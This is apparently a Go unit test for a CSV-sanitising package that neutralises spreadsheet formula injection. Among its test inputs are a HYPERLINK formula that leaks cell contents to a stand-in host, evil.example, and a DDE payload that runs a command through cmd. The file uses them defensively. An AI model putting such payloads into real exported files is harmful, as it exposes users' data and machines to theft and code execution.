package safecsv_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/orcidlink/orcidlink/internal/safecsv"
)

// TestCells: every start OWASP names as a formula is neutralised, and
// nothing else changes.
func TestCells(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"", ""},
		{"Ana Lima", "Ana Lima"},
		{"a=b", "a=b"},
		{" =1", " =1"},
		{"'quoted", "'quoted"},
		{"0000-0002-1825-0097", "0000-0002-1825-0097"},
	}
	for _, c := range cases {
		if got := safecsv.Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestWriter: a record written reads back, through encoding/csv, as the
// neutralised cells, with quoting intact, and the caller's record is
// left as it was.
func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := safecsv.NewWriter(&buf)
	rec := []string{"=1+1", "a,\"b\"", "-", "plain"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
	got, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "a,\"b\"", "'-", "plain"}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d reads back %q, want %q", i, got[i], want[i])
		}
	}
}
